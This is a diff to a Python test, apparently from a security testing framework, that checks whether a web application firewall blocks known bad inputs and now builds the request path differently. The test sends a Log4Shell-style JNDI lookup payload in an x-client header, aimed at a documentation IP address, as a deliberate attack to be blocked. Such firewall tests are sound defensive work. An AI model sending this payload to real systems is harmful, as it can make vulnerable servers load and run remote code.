@@ -8,13 +8,13 @@ from probes.remote.http import Connection
 from stormproof.core.bench import Bench
 from stormproof.core.errors import CouldNotLook, Undecidable
 from stormproof.core.judges.queries.saved_queries import Expected
-from stormproof.core.policy import Mode
 from stormproof.core.stimuli import Stimulus
 from stormproof.stimuli.queries.query_runs import Asked, Caused, ask
 from stormproof.stimuli.shared.entry_points import answered
 from stormproof.stimuli.shared.log_traces import LONGEST_S
+from stormproof.stimuli.shared.observing import control_observing_since
 from stormproof.stimuli.shared.propagation import settled
-from stormproof.stimuli.shared.routes import HEALTH
+from stormproof.stimuli.shared.workload import health
 
 LOOKUP = {"x-client": "${jndi:ldap://192.0.2.1/a}"}
 """What AWS's rules against known bad inputs are for; it leads nowhere, and without a key nowhere near a function:
@@ -24,11 +24,12 @@ https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-ba
 
 def be_blocked(bench: Bench) -> Asked:
     """Attack in the plainest way, with a mark of our own in the query string, then ask the query about it."""
-    if bench.context.policy.firewall_mode is Mode.OBSERVE:
-        raise Undecidable("firewall.observes", "the firewall only observes: it blocks nothing that could be found")
+    if observed := control_observing_since(bench, "firewall"):
+        raise Undecidable("firewall.observes", f"observing since {observed}: it blocks nothing that could be found")
     since, mark = bench.clock.now(), uuid.uuid4().hex
+    path = f"{health(bench).path}?mark={mark}"
     with Connection(bench.endpoint()) as connection:
-        seen = answered(bench.send(connection.send, "GET", f"{HEALTH}?mark={mark}", LOOKUP, note="an attack"))
+        seen = answered(bench.send(connection.send, "GET", path, LOOKUP, note="an attack"))
     if seen.status != 403:
         raise CouldNotLook("troubles.not_caused", f"an attack was to be blocked: {seen.status} {seen.body[:200]}")
     return ask(bench, since, (of_block(mark),))
